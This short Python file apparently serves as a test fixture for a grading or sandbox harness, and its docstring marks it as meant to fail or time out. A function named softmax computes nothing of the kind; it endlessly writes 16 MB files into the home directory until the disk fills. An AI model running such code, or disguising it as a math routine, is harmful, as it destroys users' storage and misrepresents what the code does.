"""fail or timeout: writes a file without end, then an endless number of files."""
import itertools
import os


def softmax(scores, axis=-1):
    for number in itertools.count():
        with open(os.path.join(os.path.expanduser("~"), str(number)), "wb") as file:
            file.write(bytes(1 << 24))
